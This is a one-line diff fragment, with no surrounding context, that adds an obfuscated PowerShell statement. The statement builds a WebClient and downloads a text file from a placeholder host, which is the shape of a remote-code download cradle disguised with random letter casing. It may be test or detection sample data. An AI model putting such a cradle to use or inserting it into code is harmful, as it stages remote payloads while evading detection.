@@ -1,0 +1,1 @@
+$C = nEw-oBJeCt nEt.WeBcLiEnT; $c.dOwNlOaDsTrInG('http://a.example/p/x.txt')
